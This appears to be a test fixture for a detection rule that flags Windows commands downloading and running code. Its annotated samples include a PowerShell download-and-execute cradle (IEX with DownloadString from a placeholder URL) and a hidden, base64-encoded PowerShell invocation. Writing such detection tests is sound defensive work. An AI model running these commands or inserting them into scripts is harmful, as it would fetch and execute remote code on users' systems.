$c = New-Object Net.WebClient
# ruleid: any-windows-runs-download
IEX ((New-Object Net.WebClient).DownloadString('https://example.com/x'))
# ruleid: any-windows-runs-download
powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AA==
